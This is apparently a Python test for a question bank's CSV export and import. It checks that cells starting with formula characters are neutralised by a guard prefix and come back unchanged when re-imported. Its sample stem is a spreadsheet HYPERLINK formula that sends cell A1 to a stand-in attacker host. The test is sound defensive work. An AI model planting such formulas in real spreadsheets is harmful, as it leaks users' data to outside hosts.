"""Exported question text that a spreadsheet would run as a formula (=, +, -, @, a tab or a
carriage return first) is written as text in CSV as in xlsx, and comes back unchanged."""

import csv
import io

from apps.questions.models import Bank
from question_bank.tables import FORMULA_GUARD

HOSTILE_STEM = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'


def test_csv_export_neutralises_formulas_and_reimports_the_same_text(
    client_for, county_admin, bank, tree, make_question
):
    make_question(
        bank,
        stem=HOSTILE_STEM,
        explanation="@SUM(1,2)",
        options=[
            {"key": "A", "text": "+1"},
            {"key": "B", "text": "-2"},
            {"key": "C", "text": "\tcmd"},
            {"key": "D", "text": "\r=1"},
        ],
        answer="A",
    )
    client = client_for(county_admin)
    exported = client.get(f"/api/v1/questions/export?format=csv&bank={bank.pk}").content
    rows = list(csv.DictReader(io.StringIO(exported.decode("utf-8-sig"))))
    row = rows[0]
    for column, text in [
        ("题干", HOSTILE_STEM),
        ("解析", "@SUM(1,2)"),
        ("选项A", "+1"),
        ("选项B", "-2"),
        ("选项C", "\tcmd"),
        ("选项D", "\r=1"),
    ]:
        assert row[column] == FORMULA_GUARD + text, column

    copy = Bank.objects.create(name="副本", org_unit=tree.county)
    report = client.post(
        f"/api/v1/questions/import?bank={copy.pk}",
        {"file": io.BytesIO(exported)},
        format="multipart",
    )
    assert report.status_code == 200, report.content
    question = copy.questions.get()
    assert question.stem == HOSTILE_STEM
    assert question.explanation == "@SUM(1,2)"
    # (The importer trims the whitespace around an option, tab and carriage return too.)
    assert [o["text"] for o in question.options] == ["+1", "-2", "cmd", "=1"]
